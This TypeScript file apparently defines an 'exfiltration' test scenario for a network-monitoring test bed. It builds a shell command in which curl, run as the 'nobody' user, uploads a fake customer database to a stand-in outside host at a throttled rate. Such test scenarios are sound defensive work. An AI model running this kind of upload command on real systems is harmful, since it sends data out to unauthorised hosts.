import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { hosts, processOf, type Scenario } from "../scenario.ts";

const fileSizeBytes = 24 << 20;

/** curl, as nobody, uploads a file to a stranger. */
export const exfiltration: Scenario = {
  name: "exfiltration",
  metric: "bytesOut",
  kinds: ["exfiltration"],
  async prepare({ bed, spawn, random }) {
    await bed.startServer("node", "internet", { port: 443 });
    const file = join(bed.directory, "customers.db");
    await writeFile(file, Buffer.alloc(fileSizeBytes, "name;street;card;"), { mode: 0o644 });
    const rate = `${600 + Math.floor(random() * 900)}k`;
    const url = `http://${hosts.stranger}:443/inbox`;
    return () => {
      const program = ["curl", "-sS", "--limit-rate", rate, "--data-binary", "@-", url];
      const script = `exec setpriv --reuid=65534 --clear-groups -- ${program.join(" ")} < "$0"`;
      const child = spawn("vm", "sh", "-c", script, file);
      return {
        address: hosts.stranger,
        port: "443/tcp",
        process: processOf(child, "curl", "nobody"),
        part: ({ source, destination }) => source === hosts.vm && destination === hosts.stranger,
      };
    };
  },
};
